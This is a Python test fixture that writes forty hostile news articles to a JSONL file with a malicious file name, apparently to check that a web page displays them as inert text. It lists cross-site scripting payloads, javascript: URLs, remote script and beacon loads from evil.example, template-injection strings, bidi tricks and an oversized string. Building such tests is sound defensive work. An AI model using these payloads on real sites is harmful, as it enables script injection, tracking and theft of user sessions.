"""Forty articles by an enemy of the page: what each tries must stay text, wherever it is shown."""

import json
from pathlib import Path
from typing import Any

_RUN = "window.pwned=1"
_EVIL = "https://evil.example"

TRICKS = (
    f"<script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'"><svg onload={_RUN}>',
    f"'\"--><script src={_EVIL}/a.js></script>",
    f"<iframe src={_EVIL}/frame></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f"<a href=javascript:{_RUN}>read on</a>",
    f"[read on](javascript:{_RUN})",
    f"![beacon]({_EVIL}/b.png)",
    f"![beacon][b]\n[b]: {_EVIL}/b.png",
    f"<{_EVIL}/auto>",
    f"<link rel=stylesheet href={_EVIL}/a.css>",
    f"<style>@import '{_EVIL}/b.css'; body{{display:none}}</style>",
    f"<base href={_EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<form action={_EVIL}><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src={_EVIL}/v.mp4 autoplay onerror={_RUN}></video>",
    f"<object data={_EVIL}/o></object><embed src={_EVIL}/e>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "$$\\href{javascript:window.pwned=1}{\\frac{1}{2}}$$",
    "\\(\\unicode{<img src=x onerror=window.pwned=1>}\\) $5 and $7",
    f"\\[\\includegraphics{{{_EVIL}/l.png}}\\]",
    f"${{{_RUN}}} #{{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{% include 'secret' %} <%= 7*7 %> {{7*7}}",
    "\u202eevil gnp.exe\u202c \u2066hidden\u2069 \u200f\u200e",
    "a\u0300" * 300 + " stacked",
    "\ufffe\uffff \u0007 \u001b[31mred\u001b[0m",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<IMG SRC=JaVaScRiPt:{_RUN}> <img\tsrc=x\tonerror={_RUN}>",
    f"</textarea></title></style><script>{_RUN}</script>",
    f"```html\n<script>{_RUN}</script>\n```",
    f"<template><script>{_RUN}</script></template>",
    f"<x-card onclick={_RUN} style='position:fixed;inset:0'>all of the page</x-card>",
    "[1][2](/logout) [3]",
    f"<!-- --!><img src=x onerror={_RUN}> -->",
    f"data:text/html,<script>{_RUN}</script>",
    "The quagga ledger. " + "x" * 2_000_000,
)
assert len(TRICKS) == 40
_URLS = (
    f"javascript:{_RUN}",
    f"https://news.example/?a=\"onmouseover={_RUN} x='",
    f"data:text/html,<script>{_RUN}</script>",
    "//evil.example/x",
    f"https://evil.example/'><script>{_RUN}</script>",
)
FILE_NAME = f'"><img src=x onerror={_RUN}> $$x$$ \u202elnosj.jsonl'
"""As a person may have it on a disk; no / may be in one."""


def articles() -> list[dict[str, Any]]:
    """Return the articles; each is found by the quagga of its number."""
    found = []
    for number, trick in enumerate(TRICKS):
        short = trick[:400]
        found.append(
            {
                "title": f"Quagga{number} {short}",
                "source": f"Outlet{number} {short}",
                "authors": [f"Author {short}"],
                "url": _URLS[number % len(_URLS)],
                "published": "2024-03-01",
                "text": f"The quagga{number} ledger rose from $5 to $7, said {trick} of the quagga{number} board.",
            }
        )
    return found


def write(folder: Path) -> Path:
    path = folder / FILE_NAME
    path.write_text("".join(json.dumps(article) + "\n" for article in articles()), encoding="utf-8")
    return path
